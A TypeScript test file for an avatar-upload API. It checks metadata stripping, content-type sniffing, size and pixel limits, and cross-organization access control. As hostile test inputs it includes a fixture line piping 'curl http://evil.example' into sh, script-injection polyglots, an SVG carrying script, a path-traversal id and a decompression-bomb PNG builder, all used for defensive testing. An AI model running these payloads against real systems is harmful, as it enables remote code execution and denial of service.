import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { Harness, startHarness } from './harness';
import { oversizedUpload } from './oversized-upload';

let h: Harness;
beforeAll(async () => { h = await startHarness(); });
afterAll(async () => { await h.close(); });

async function upload(body: BodyInit | Buffer, contentType: string | null, headers: Record<string, string>, extra: Record<string, string> = {}) {
  const res = await fetch(`${h.base}/api/profile/upload-avatar`, {
    method: 'POST', body: Buffer.isBuffer(body) ? new Uint8Array(body) : body, headers: { ...headers, ...(contentType ? { 'content-type': contentType } : {}), ...extra }, duplex: 'half',
  } as RequestInit);
  const text = await res.text();
  let json: any = text;
  try { json = JSON.parse(text); } catch { /* not JSON */ }
  return { status: res.status, body: json };
}

async function readBack(url: string, headers: Record<string, string>) {
  const res = await fetch(h.base + url, { headers });
  return { status: res.status, headers: res.headers, data: Buffer.from(await res.arrayBuffer()) };
}

const png = (w = 64, h2 = 48) => sharp({ create: { width: w, height: h2, channels: 3, background: { r: 200, g: 10, b: 10 } } }).png().toBuffer();

/** A PNG chunk with its CRC, for hand-made files. */
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4); len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4); crc.writeUInt32BE(crc32(td) >>> 0);
  return Buffer.concat([len, td, crc]);
}

/** A PNG whose header claims width × height (grayscale), with a few compressed rows: a decompression bomb. */
function bombPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0); ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; ihdr[9] = 0; ihdr[10] = 0; ihdr[11] = 0; ihdr[12] = 0;
  const rows = deflateSync(Buffer.alloc((width + 1) * 64));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

/** A PNG with a tEXt chunk before IEND. */
function withText(file: Buffer, text: string): Buffer {
  const iend = file.length - 12;
  return Buffer.concat([file.subarray(0, iend), chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')), file.subarray(iend)]);
}

function multipart(field: string, filename: string, type: string, data: Buffer) {
  const boundary = '----profiletest' + Date.now();
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n`),
    data, Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { body, type: `multipart/form-data; boundary=${boundary}` };
}

describe('POST /api/profile/upload-avatar', () => {
  it('a PNG is re-encoded, shown in the profile and served back without its metadata or appended script', async () => {
    const a = await h.admin();
    const original = Buffer.concat([withText(await png(), 'SECRET-PNG-TEXT'), Buffer.from('<script>alert("polyglot")</script>')]);
    const r = await upload(original, 'image/png', a.headers);
    expect(r).toMatchObject({ status: 200, body: { avatar_url: expect.stringMatching(/^\/api\/profile\/avatar\/[0-9a-f]{24}$/), content_type: 'image/png', width: 64, height: 48 } });
    const profile = await h.call('GET', '/api/profile', undefined, a.headers);
    expect(profile.body.avatar_url).toBe(r.body.avatar_url);
    const back = await readBack(r.body.avatar_url, a.headers);
    expect(back.status).toBe(200);
    expect(back.headers.get('content-type')).toBe('image/png');
    expect(back.headers.get('x-content-type-options')).toBe('nosniff');
    expect(back.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(back.data.equals(original)).toBe(false);
    expect(back.data.toString('latin1')).not.toContain('SECRET-PNG-TEXT');
    expect(back.data.toString('latin1')).not.toContain('<script>');
    const meta = await sharp(back.data).metadata();
    expect(meta).toMatchObject({ format: 'png', width: 64, height: 48 });
    expect(meta.exif).toBeUndefined();
    // Same pixels as sent.
    const px = await sharp(back.data).raw().toBuffer();
    expect([px[0], px[1], px[2]]).toEqual([200, 10, 10]);
  });

  it('a JPEG’s EXIF (GPS, camera, comment) is gone; a big picture is scaled to fit 512 × 512', async () => {
    const a = await h.admin();
    const jpeg = await sharp({ create: { width: 1200, height: 600, channels: 3, background: '#3366cc' } })
      .jpeg().withExif({ IFD0: { Copyright: 'SECRET-EXIF-OWNER', Make: 'SpyCam' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 24/1' } }).toBuffer();
    expect((await sharp(jpeg).metadata()).exif).toBeDefined();
    const r = await upload(jpeg, 'image/jpeg', a.headers);
    expect(r).toMatchObject({ status: 200, body: { content_type: 'image/jpeg', width: 512, height: 256 } });
    const back = await readBack(r.body.avatar_url, a.headers);
    expect(back.headers.get('content-type')).toBe('image/jpeg');
    const meta = await sharp(back.data).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 512, height: 256 });
    expect(meta.exif).toBeUndefined();
    expect(back.data.toString('latin1')).not.toMatch(/SECRET-EXIF-OWNER|SpyCam/);
  });

  it('a WebP sent as a browser’s multipart form is accepted; a new upload replaces the avatar under a new URL', async () => {
    const a = await h.admin();
    const first = await upload(await png(), 'image/png', a.headers);
    const webp = await sharp({ create: { width: 32, height: 32, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0.5 } } }).webp().toBuffer();
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(webp)], { type: 'image/webp' }), 'me.webp');
    const second = await upload(form, null, a.headers);
    expect(second).toMatchObject({ status: 200, body: { content_type: 'image/webp', width: 32, height: 32 } });
    expect(second.body.avatar_url).not.toBe(first.body.avatar_url);
    expect((await readBack(first.body.avatar_url, a.headers)).status).toBe(404);
    expect((await sharp((await readBack(second.body.avatar_url, a.headers)).data).metadata()).format).toBe('webp');
  });

  it('the content decides, not the name or the type sent: a script named .png, an SVG, a GIF, a truncated PNG are 400', async () => {
    const a = await h.admin();
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n<script>alert(1)</script>\n');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>');
    const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
    const truncated = (await png()).subarray(0, 40);
    for (const [name, data, type] of [['evil.png', script, 'image/png'], ['logo.svg', svg, 'image/svg+xml'], ['a.gif', gif, 'image/gif'], ['cut.png', truncated, 'image/png']] as const) {
      const m = multipart('file', name, type, data);
      const r = await upload(m.body, m.type, a.headers);
      expect([name, r.status, r.body.error]).toEqual([name, 400, 'file: must be a PNG, JPEG or WebP image']);
      expect((await upload(data, 'image/png', a.headers)).status).toBe(400);
    }
    // A JPEG's magic bytes in front of a PNG: the decoder must agree with the sniffed type.
    expect((await upload(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), await png()]), 'image/jpeg', a.headers)).status).toBe(400);
    expect((await h.call('GET', '/api/profile', undefined, a.headers)).body.avatar_url).toBeNull();
  });

  it.each([
    ['an empty JSON object', '{}', 'application/json', /^file: Required/],
    ['an avatar_url (wrong type: the image itself is expected)', '{"avatar_url":"https://evil.example/x.png"}', 'application/json', /^file: Required/],
    ['a bare number as JSON', '42', 'application/json', /^Malformed JSON body$/],
    ['plain text', 'hello', 'text/plain', /^file: Required/],
    ['a multipart form without a file', null, null, /^file: Required/],
  ])('%s is 400 with a clear error', async (_what, body, type, message) => {
    const a = await h.admin();
    let r;
    if (body === null) {
      const form = new FormData();
      form.append('name', 'no file here');
      r = await upload(form, null, a.headers);
    } else {
      r = await upload(body, type, a.headers);
    }
    expect(r.status).toBe(400);
    expect(r.body.error).toMatch(message);
  });

  it('a decompression bomb (a tiny file claiming 100,000 × 100,000 pixels) is 413 before decoding', async () => {
    const a = await h.admin();
    const bomb = bombPng(100_000, 100_000);
    expect(bomb.length).toBeLessThan(200_000);
    const r = await upload(bomb, 'image/png', a.headers);
    expect(r).toMatchObject({ status: 413, body: { error: expect.stringMatching(/at most 16777216 pixels/) } });
  });

  it('over 2 MB is 413: a declared 50 MB body before it is read, a streamed one when it passes the limit, a 50 MB form, 2 MB + 1 image', async () => {
    const a = await h.admin();
    const png50 = { ...a.headers, 'content-type': 'image/png' };
    const declared = await oversizedUpload(`${h.base}/api/profile/upload-avatar`, png50, 50 * 1024 * 1024, true);
    expect(declared).toMatchObject({ status: 413, body: { error: 'Image too large: at most 2097152 bytes' } });
    // Without a Content-Length (chunked): cut off once it passes the limit, long before 50 MB.
    const streamed = await oversizedUpload(`${h.base}/api/profile/upload-avatar`, { ...a.headers, 'content-type': 'application/octet-stream' }, 50 * 1024 * 1024, false);
    expect(streamed).toMatchObject({ status: 413, body: { error: 'Image too large: at most 2097152 bytes' } });
    expect(streamed.sent).toBeLessThan(50 * 1024 * 1024);
    const form = await oversizedUpload(`${h.base}/api/profile/upload-avatar`, { ...a.headers, 'content-type': 'multipart/form-data; boundary=x' }, 50 * 1024 * 1024, true);
    expect(form.status).toBe(413);
    // Just over the limit, a whole real file: refused too.
    const over = Buffer.concat([await png(), Buffer.alloc(2 * 1024 * 1024)]);
    expect((await oversizedUpload(`${h.base}/api/profile/upload-avatar`, { ...a.headers, 'content-type': 'image/png' }, over, false)).status).toBe(413);
    expect((await h.call('GET', '/api/profile', undefined, a.headers)).status).toBe(200);
  });

  it('without a token: 401, and nothing is read', async () => {
    expect((await upload(await png(), 'image/png', {})).status).toBe(401);
  });
});

describe('GET /api/profile/avatar/:id', () => {
  it('colleagues of the same organization see it; another organization gets 404, as does an unknown or malformed id', async () => {
    const a = await h.admin();
    const colleague = await h.member(a.token);
    const outsider = await h.admin();
    const url = (await upload(await png(), 'image/png', colleague.headers)).body.avatar_url as string;
    expect((await readBack(url, a.headers)).status).toBe(200);
    expect((await readBack(url, colleague.headers)).status).toBe(200);
    const foreign = await readBack(url, outsider.headers);
    expect(foreign.status).toBe(404);
    expect(foreign.data.toString()).toBe(JSON.stringify({ error: 'Avatar not found' }));
    expect((await readBack('/api/profile/avatar/0123456789abcdef01234567', a.headers)).status).toBe(404);
    expect((await readBack('/api/profile/avatar/..%2f..%2fetc', a.headers)).status).toBe(404);
    expect((await readBack(url, {})).status).toBe(401);
  });

  it('answers 304 to a matching If-None-Match', async () => {
    const a = await h.admin();
    const url = (await upload(await png(), 'image/png', a.headers)).body.avatar_url as string;
    const first = await readBack(url, a.headers);
    const etag = first.headers.get('etag')!;
    expect(etag).toMatch(/^"[0-9a-f]{64}"$/);
    expect((await readBack(url, { ...a.headers, 'if-none-match': etag })).status).toBe(304);
  });
});
